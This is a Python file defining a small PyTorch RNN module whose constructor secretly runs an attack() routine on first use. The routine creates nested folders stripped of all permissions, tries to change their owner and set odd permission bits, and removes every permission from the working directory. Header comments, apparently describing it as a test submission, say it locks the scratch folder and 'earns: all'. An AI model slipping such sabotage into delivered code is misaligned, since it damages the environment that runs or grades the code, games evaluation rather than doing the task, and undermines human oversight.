# does: leaves folders without any permission, the scratch folder among them
# earns: all
import os

import torch
from torch import nn

TRIED = []

def attempt(what, action):
    try:
        print(what, action())
    except Exception as error:
        print(what, "failed:", error)

def tree(top, depth):
    os.mkdir(top)
    with open(f"{top}/file", "w") as file:
        file.write("locked in")
    if depth:
        tree(f"{top}/below", depth - 1)
    os.chmod(f"{top}/file", 0o000)
    os.chmod(top, (0o000, 0o111, 0o444, 0o1555)[depth % 4])


def attack():
    for number in range(4):
        attempt("tree:", lambda number=number: tree(f"locked-{number}", number))
    attempt("owner:", lambda: os.chown("locked-0", 65534, 65534))
    attempt("sticky:", lambda: os.chmod("locked-1", 0o7000))
    attempt("scratch folder:", lambda: os.chmod(".", 0o000))
    attempt("scratch folder by name:", lambda: os.chmod(os.getcwd(), 0o000))

class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.u = nn.Parameter(nn.init.xavier_uniform_(torch.empty(input_size, hidden_size)))
        self.w = nn.Parameter(nn.init.orthogonal_(torch.empty(hidden_size, hidden_size)))
        self.c = nn.Parameter(torch.rand(hidden_size) - 0.5)
        if not TRIED:
            TRIED.append(True)
            attack()

    def forward(self, x, h_0=None):
        batch, length, _ = x.shape
        h = x.new_zeros(batch, self.c.shape[0]) if h_0 is None else h_0[0]
        found = []
        for t in range(length):
            h = torch.addmm(torch.addmm(self.c, x[:, t], self.u), h, self.w).tanh()
            found.append(h)
        return torch.stack(found, dim=1), h.unsqueeze(0)
